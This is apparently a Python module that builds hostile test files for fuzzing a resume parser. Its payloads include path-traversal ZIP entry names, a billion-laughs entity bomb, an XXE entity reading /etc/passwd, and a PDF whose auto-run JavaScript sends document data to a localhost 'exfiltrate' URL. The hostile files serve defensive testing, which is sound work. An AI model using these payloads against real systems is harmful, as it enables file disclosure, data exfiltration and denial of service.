"""Builders (no tests here) for the fuzz suite: real resumes and the hostile files made from them."""

from __future__ import annotations

import io
import zipfile

from docx import Document
from fpdf import FPDF

RESUME_LINES = (
    "Maria Lopez",
    "maria.lopez@example.org | 555-201-8890",
    "LICENSES",
    "Licensed Clinical Social Worker (LCSW), Ohio, License 12345, expires 06/2027",
    "Certified Case Manager (CCM), expired 2019",
    "EDUCATION",
    "Master of Social Work, Ohio State University, 2010",
    "EXPERIENCE",
    "Case Manager, Riverside Clinic, March 2011 - Present",
)


def resume_pdf(lines: tuple[str, ...] = RESUME_LINES) -> bytes:
    """A real one-page PDF with a text layer."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=11)
    for line in lines:
        pdf.cell(0, 7, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def resume_docx(lines: tuple[str, ...] = RESUME_LINES) -> bytes:
    """A real Word document with one paragraph per line."""
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rewrite_zip(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """The same ZIP with some entries' bytes replaced and others added (names are written exactly as given)."""
    replace = replace or {}
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, payload in (add or {}).items():
            info = zipfile.ZipInfo(name)
            # ZipInfo would normalise the name; set it back so "../" survives into the archive as an attacker writes it.
            info.filename = name
            target.writestr(info, payload)
    return buffer.getvalue()


def docx_with_traversal_names() -> bytes:
    """A real resume whose ZIP also holds entries named to escape any folder it might be unpacked into."""
    return rewrite_zip(
        resume_docx(),
        add={
            "../../fuzz-escaped.txt": b"escaped",
            "/tmp/fuzz-absolute.txt": b"absolute",
            "..\\..\\fuzz-windows.txt": b"windows",
        },
    )


def nested_zip(depth: int = 6) -> bytes:
    """A ZIP holding a ZIP holding a ZIP ..., the innermost one being a real Word resume."""
    data = resume_docx()
    for level in range(depth):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"level{level}.docx", data)
        data = buffer.getvalue()
    return data


def docx_whose_body_is_a_zip() -> bytes:
    """A Word file whose word/document.xml is itself a ZIP archive instead of XML."""
    return rewrite_zip(resume_docx(), replace={"word/document.xml": nested_zip(2)})


BILLION_LAUGHS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>Registered Nurse (RN) &lol9;</w:t></w:r></w:p></w:body></w:document>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE doc [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>Case Manager &secret;</w:t></w:r></w:p></w:body></w:document>
"""


def docx_billion_laughs() -> bytes:
    """A Word file whose body declares nested entities that would expand to about 3 GB of "lol"."""
    return rewrite_zip(resume_docx(), replace={"word/document.xml": BILLION_LAUGHS})


def docx_external_entity() -> bytes:
    """A Word file whose body pulls in /etc/passwd through an external entity (XXE)."""
    return rewrite_zip(resume_docx(), replace={"word/document.xml": EXTERNAL_ENTITY})


def raw_pdf(objects: list[bytes], trailer_extra: bytes = b"") -> bytes:
    """A PDF assembled from numbered object bodies (object 1 is the catalog) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref)
    return bytes(out)


def pdf_with_javascript() -> bytes:
    """A one-page resume PDF whose catalog runs JavaScript when opened (and on a link annotation)."""
    script = b"app.launchURL('http://127.0.0.1:9/exfiltrate?' + this.info.Title); SECRET_JS_MARKER"
    content = b"BT /F1 12 Tf 72 720 Td (Registered Nurse RN, Case Manager) Tj ET"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 6 0 R >> >> /Annots [7 0 R] >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /Type /Action /S /JavaScript /JS (" + script + b") >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A 5 0 R >>",
        ]
    )


def pdf_with_self_referencing_pages() -> bytes:
    """A PDF whose page tree names itself as its own kid (an endless loop for a naive walker)."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        ]
    )


def truncated(data: bytes, fraction: float) -> bytes:
    """The first part of ``data``: what an interrupted upload leaves."""
    return data[: max(1, int(len(data) * fraction))]


def bit_flipped(data: bytes, positions: list[int]) -> bytes:
    """``data`` with one bit flipped at each of ``positions`` (taken modulo the length)."""
    out = bytearray(data)
    for position in positions:
        out[position % len(out)] ^= 1 << (position % 8)
    return bytes(out)
